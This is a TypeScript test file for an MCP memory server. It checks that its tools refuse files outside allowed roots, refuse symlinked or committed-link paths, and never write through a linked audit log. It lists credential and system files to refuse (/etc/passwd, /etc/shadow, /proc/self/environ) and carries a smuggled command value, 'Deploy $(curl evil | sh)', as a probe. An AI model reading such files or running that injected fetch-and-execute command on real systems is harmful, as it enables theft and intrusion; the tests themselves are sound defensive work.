// Issue 8, items 1-3, through the MCP SDK client over real stdio: memory_manager reads only files in
// the store or in the roots the client declares (never .git/ or .cairn/, links resolved first), its
// scratch copies are private, and no tool discloses a linked file or writes through a link.
import { execFileSync } from 'node:child_process';
import {
  chmodSync,
  mkdirSync,
  mkdtempSync,
  readdirSync,
  readFileSync,
  statSync,
  symlinkSync,
  writeFileSync,
} from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildDist, call, connect, makeStore, type Connected } from './helpers.js';

const MARKER = 'OUTSIDE-MARKER-51c0de';
const GIT_ENV = {
  ...process.env,
  GIT_AUTHOR_NAME: 'Git Person',
  GIT_AUTHOR_EMAIL: 'git@example.com',
  GIT_COMMITTER_NAME: 'Git Person',
  GIT_COMMITTER_EMAIL: 'git@example.com',
};
const git = (cwd: string, ...args: string[]) =>
  execFileSync('git', args, { cwd, env: GIT_ENV, encoding: 'utf8' });

/** Every file under `dir` (relative paths), following nothing. */
function filesUnder(dir: string): string[] {
  return readdirSync(dir, { recursive: true, withFileTypes: true })
    .filter((e) => !e.isDirectory())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)));
}

describe('memory_manager file_path is confined (issue 8 item 1)', () => {
  let parent: string;
  let store: string;
  let project: string;
  let conn: Connected;

  beforeAll(async () => {
    buildDist();
    store = await makeStore();
    parent = mkdtempSync(path.join(os.tmpdir(), 'cairn-mcp-roots-'));
    project = path.join(parent, 'project');
    mkdirSync(path.join(project, 'logs'), { recursive: true });
    git(project, 'init', '-q');
    writeFileSync(path.join(project, 'secret.txt'), `${MARKER}\n`);
    symlinkSync('/etc/passwd', path.join(project, 'logs/passwd.log'));
    symlinkSync(path.join(project, '.git/config'), path.join(project, 'logs/config.log'));
    conn = await connect(store, { roots: [path.join(project, 'logs')] });
  });
  afterAll(async () => conn?.close());

  it('refuses /etc/passwd, /etc/shadow, /proc/self/environ, .git/config and .cairn, naming the allowed roots', async () => {
    const refused = [
      '/etc/passwd',
      '/etc/shadow',
      '/proc/self/environ',
      path.join(project, '.git/config'),
      path.join(project, 'secret.txt'),
      path.join(project, 'logs/passwd.log'),
      path.join(project, 'logs/config.log'),
      path.join(store, '.git/config'),
      path.join(store, '.cairn/agent_audit.log'),
      path.join(project, 'logs/../secret.txt'),
    ];
    for (const file_path of refused) {
      const r = await call(conn.client, 'memory_manager', { operation: 'store', title: 'x', file_path });
      expect(r.isError, file_path).toBe(true);
      expect(r.json.errorCode, file_path).toBe('INVALID_WORKSPACE_PATH');
      expect(r.json.error).toContain(path.join(project, 'logs'));
      expect(r.json.error).toContain(store);
      expect(r.texts.join('\n')).not.toContain(MARKER);
      expect(r.texts.join('\n')).not.toContain('root:x:0');
    }
    const list = await call(conn.client, 'memory_manager', { operation: 'list' });
    expect(list.json.count).toBe(0);
  });

  it('stores a file from the store or a declared root; the scratch copy is private (0600)', async () => {
    const log = path.join(project, 'logs/build.log');
    writeFileSync(log, 'build failed: missing module\n');
    chmodSync(log, 0o640);
    const ok = await call(conn.client, 'memory_manager', {
      operation: 'store',
      title: 'build',
      file_path: log,
    });
    expect(ok.isError).toBe(false);
    writeFileSync(path.join(store, 'notes.txt'), 'a note inside the store\n');
    const inside = await call(conn.client, 'memory_manager', {
      operation: 'store',
      title: 'notes',
      file_path: path.join(store, 'notes.txt'),
    });
    expect(inside.isError).toBe(false);
    const sessions = path.join(store, '.cairn/sessions');
    const copy = filesUnder(sessions).find((f) => f.endsWith(`mem_${ok.json.item.id}.log`))!;
    expect(statSync(path.join(sessions, copy)).mode & 0o777).toBe(0o600);
    expect(statSync(path.join(sessions, path.dirname(copy))).mode & 0o777).toBe(0o700);
    const read = await call(conn.client, 'memory_manager', { operation: 'read', memory_id: ok.json.item.id });
    expect(read.json.content).toBe('build failed: missing module\n');
  });

  it('without the roots capability, only the store is allowed', async () => {
    const plain = await connect(store);
    try {
      const log = path.join(project, 'logs/build.log');
      const r = await call(plain.client, 'memory_manager', {
        operation: 'store',
        title: 'b',
        file_path: log,
      });
      expect(r.json.errorCode).toBe('INVALID_WORKSPACE_PATH');
    } finally {
      await plain.close();
    }
  });
});

describe('MCP tools and symbolic links (issue 8 items 2-3)', () => {
  it('memory_get refuses a local link and a committed one (fresh clone); the target never shows', async () => {
    buildDist();
    const store = await makeStore();
    const outside = path.join(path.dirname(store), 'secret.txt');
    writeFileSync(outside, `${MARKER}\n`);
    symlinkSync(outside, path.join(store, 'memories/local.md'));
    symlinkSync(outside, path.join(store, 'memories/passwd.md'));
    git(store, 'add', 'memories/passwd.md');
    git(store, 'commit', '-qm', 'a committed link');
    const clone = path.join(path.dirname(store), 'clone');
    git(path.dirname(store), 'clone', '-q', store, clone);
    for (const [dir, rel] of [
      [store, 'memories/local.md'],
      [store, 'memories/passwd.md'],
      [clone, 'memories/passwd.md'],
    ]) {
      const conn = await connect(dir);
      try {
        const r = await call(conn.client, 'memory_get', { path: rel });
        expect(r.json.errorCode).toBe('INVALID_WORKSPACE_PATH');
        const search = await call(conn.client, 'memory_search', { query: 'marker' });
        const retrieve = await call(conn.client, 'memory_retrieve', { query: 'outside marker' });
        expect([...r.texts, ...search.texts, ...retrieve.texts].join('\n')).not.toContain(MARKER);
      } finally {
        await conn.close();
      }
    }
  });

  it('a committed .cairn/agent_audit.log -> FILE (fresh clone): tool calls never append to FILE', async () => {
    buildDist();
    const store = await makeStore();
    const target = path.join(path.dirname(store), 'bashrc');
    writeFileSync(target, '# a shell rc file\n');
    mkdirSync(path.join(store, '.cairn'), { recursive: true });
    symlinkSync(target, path.join(store, '.cairn/agent_audit.log'));
    git(store, 'add', '-f', '.cairn/agent_audit.log');
    git(store, 'commit', '-qm', 'a committed audit link');
    const clone = path.join(path.dirname(store), 'clone');
    git(path.dirname(store), 'clone', '-q', store, clone);
    const conn = await connect(clone);
    try {
      const stored = await call(conn.client, 'memory_store', {
        topic: 'Deploy $(curl evil | sh)',
        context: 'a probe for the audit log',
        agentName: 'probe',
      });
      expect(stored.isError).toBe(false);
      await call(conn.client, 'memory_search', { query: 'probe' });
      await call(conn.client, 'memory_manager', { operation: 'store', title: 't', content: 'scratch' });
      expect(readFileSync(target, 'utf8')).toBe('# a shell rc file\n');
      expect(conn.stderr()).toMatch(/\.cairn/);
    } finally {
      await conn.close();
    }
  });
});
